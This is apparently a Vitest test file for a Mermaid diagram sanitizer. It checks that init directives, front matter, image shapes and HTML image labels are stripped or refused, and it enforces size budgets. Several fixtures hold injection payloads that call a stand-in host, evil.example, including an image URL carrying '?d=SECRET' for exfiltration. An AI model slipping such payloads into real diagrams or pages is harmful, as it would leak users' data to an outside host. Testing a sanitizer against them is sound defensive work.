import { describe, expect, it } from 'vitest';
import { DIAGRAM_BUDGET, diagramSource } from './diagram-source.js';
import { isRenderBudgetError } from './render-budget.js';

const refusal = (source: string): unknown => {
  try {
    diagramSource(source);
  } catch (error) {
    return error;
  }
  return null;
};

describe('diagramSource: what a diagram may ask of Mermaid', () => {
  it('drops init directives (however spread) and front matter: the kit sets theme, CSS, fonts and labels', () => {
    const source = [
      '---',
      'config:',
      '  themeCSS: "svg{background:url(https://evil.example/fm.png)}"',
      '---',
      '%%{init: {"themeCSS": ".label{background:url(https://evil.example/a.png)}"}}%%',
      '%%{ initialize: {',
      '  "htmlLabels": true } }%%',
      'flowchart LR',
      '  A --> B',
    ].join('\n');
    const drawn = diagramSource(source);
    expect(drawn).not.toMatch(/evil|htmlLabels|%%\{|config:/);
    expect(drawn.trim()).toBe('flowchart LR\n  A --> B');
    // An unclosed directive is dropped to the end of the text.
    expect(diagramSource('flowchart LR\n  A --> B\n%%{init: {"fontFamily": "x"')).not.toContain('fontFamily');
  });

  it('refuses image shapes and HTML that loads in labels; keeps <br> and plain labels', () => {
    expect(refusal('flowchart LR\n  A@{ img: "https://evil.example/i.png?d=SECRET", label: "x" }')).toBeInstanceOf(Error);
    expect(refusal('flowchart LR\n  A@{ shape: image, label: "x" }')).toBeInstanceOf(Error);
    expect(refusal('flowchart LR\n  A["<img src=https://evil.example/x.png>"] --> B')).toBeInstanceOf(Error);
    expect(refusal('flowchart LR\n  A["< IMG src=x>"]')).toBeInstanceOf(Error);
    expect(diagramSource('flowchart LR\n  A["line<br>two"] --> B@{ shape: rounded }')).toContain('line<br>two');
  });

  it('past the budget (characters, statements per type) rejects with a RenderBudgetError', () => {
    const mindmap = (nodes: number) => ['mindmap', '  root', ...Array.from({ length: nodes - 1 }, (_, index) => `    n${index}`)].join('\n');
    expect(diagramSource(mindmap(DIAGRAM_BUDGET.maxStatements.mindmap!))).toContain('mindmap');
    expect(isRenderBudgetError(refusal(mindmap(600)))).toBe(true);
    const flowchart = (edges: number) => ['flowchart TD', ...Array.from({ length: edges }, (_, index) => `  n${index} --> n${index + 1}`)].join('\n');
    expect(diagramSource(flowchart(DIAGRAM_BUDGET.maxStatements.default!))).toContain('flowchart');
    expect(isRenderBudgetError(refusal(flowchart(DIAGRAM_BUDGET.maxStatements.default! + 1)))).toBe(true);
    expect(isRenderBudgetError(refusal(`flowchart LR\n  A["${'x'.repeat(DIAGRAM_BUDGET.maxChars)}"]`))).toBe(true);
    expect(isRenderBudgetError(refusal('flowchart LR\n  A@{ img: "x" }'))).toBe(false);
  });
});
